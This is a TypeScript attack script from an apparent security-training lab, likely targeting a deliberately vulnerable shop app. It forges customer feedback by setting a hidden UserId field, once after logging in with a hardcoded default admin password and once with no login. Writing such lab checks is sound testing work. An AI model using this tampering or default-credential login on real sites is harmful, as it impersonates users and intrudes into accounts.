import type { Attack, Tools } from '#lab'
import type { Captcha } from './steps.ts'

/** Writes feedback with this number in the hidden field, and checks that it becomes the author. */
async function forge({ http, expect }: Tools, UserId: number | string, token?: string): Promise<void> {
  const { captchaId, answer } = (await http.get('/rest/captcha/')).json<Captcha>()
  const feedback = { UserId, captchaId, captcha: answer, comment: 'I love this shop!', rating: 5 }
  const written = await http.post('/api/Feedbacks/', feedback, token === undefined ? {} : { token })
  expect(written.status === 201, `the feedback was answered with ${written.status}`)
  const { data } = written.json<{ data: { UserId: number | null } }>()
  expect(data.UserId === Number(UserId), `it is filed under ${data.UserId}`)
}

async function logIn({ http, expect }: Tools, email: string, password: string): Promise<string> {
  const login = await http.post('/rest/user/login', { email, password })
  expect(login.status === 200, `the login answered with ${login.status}`)
  return login.json<{ authentication: { token: string } }>().authentication.token
}

export const attacks: Attack[] = [
  {
    challenge: 'forgedFeedbackChallenge',
    name: 'the administrator files praise under Jim',
    run: async (tools) => forge(tools, '2', await logIn(tools, `admin@${tools.settings.domain}`, 'admin123')),
  },
  {
    challenge: 'forgedFeedbackChallenge',
    name: 'a stranger does so without logging in',
    run: (tools) => forge(tools, 2),
  },
]
